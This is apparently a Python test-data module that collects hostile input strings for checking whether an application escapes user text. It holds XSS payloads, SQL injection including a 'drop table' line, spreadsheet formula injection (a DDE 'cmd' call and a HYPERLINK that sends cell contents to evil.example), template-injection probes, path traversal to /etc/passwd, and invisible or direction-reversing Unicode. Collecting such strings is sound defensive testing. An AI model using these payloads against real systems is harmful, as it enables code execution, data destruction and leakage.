"""Texts that run, calculate, mislead or overflow where somebody forgot to treat them as texts.

Belongs here: the texts, by what the place they go to can hold. Does not belong here: which place
gets which text (`sandbox.texts.naming`).

A script that runs sets `window.__executed`, so that a test of a page can see it. Invisible
characters are written as escapes: who reads this file shall see what is in it.
"""

_RUNS = "window.__executed=1"
_LONG = 10_240

MARKUP = (
    f"<script>{_RUNS};alert(1)</script>",
    f'"><img src=x onerror="{_RUNS}">',
    f"'><svg/onload={_RUNS}>",
    f"</title></style></textarea><script>{_RUNS}</script>",
    "<style>*{display:none}</style>",
    f"javascript:{_RUNS}",
    f"[click](javascript:{_RUNS})",
    "<https://evil.example|click> <!channel> *bold* `code`",
    "<iframe srcdoc='<script>parent.__executed=1</script>'></iframe>",
    "<!-- <![CDATA[ ]]> &lt;b&gt; &amp;amp; &#x202e;",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
)
QUERIES = (
    "'; drop table marts.fct_team_metrics; --",
    "x' or '1'='1",
    "%s %n {0} \\N NULL NaN 1e309 true",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
)
UNSEEN = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067isolates that nobody closes\u202e",
    "z\u200be\u200dr\u2060o\ufeff wide",
    "Z\u0337\u0322a\u0338l\u0335g\u0336o\u0334",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f6a2 \U0001f1e9\U0001f1ea",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
)
CONTROLS = ("\x01\x07\x1b[31mred\x1b[0m\x7f", "two\r\nlines\u2028and\u2029more\x85")
PATHS = ("../../../../etc/passwd", "..\\..\\x", "%2e%2e%2fx", "/dev/null", "con.aux.")
LARGE = ("W" * _LONG, "<b>long</b> " * (_LONG // 12))

LINES = (*MARKUP, *QUERIES, *FORMULAS, *UNSEEN, *CONTROLS, *PATHS, *LARGE)
"""For texts without any rule: titles, summaries, messages, claims."""

WORDS = (*MARKUP, *QUERIES, *UNSEEN, *PATHS, FORMULAS[0], FORMULAS[1])
"""For names of one line without control characters, at most 80 characters."""

REFS = (
    f"<script>{_RUNS}</script>",
    f'"><img/src=x/onerror="{_RUNS}">',
    "=1+1",
    "@SUM(A1)",
    "-1+1",
    "';drop-table-marts;--",
    "{{7}}-${7}-{%raw%}",
    "%2e%2e%2fx",
    *(text.replace(" ", "-") for text in UNSEEN),
)
"""For branches and tags: what git allows in the name of a ref."""

SEGMENTS = (
    f"<script>{_RUNS}<",
    f'"><img src=x onerror="{_RUNS}">',
    "=1+1",
    "@SUM(A1)",
    "..%2f..%2fx",
    "'; drop table marts;--",
    "{{7*7}} ${7*7} {% raw %}",
    "a very long folder " * 8 + "end",
    *UNSEEN,
)
"""For folders of files in a repository: what git allows in a tree."""
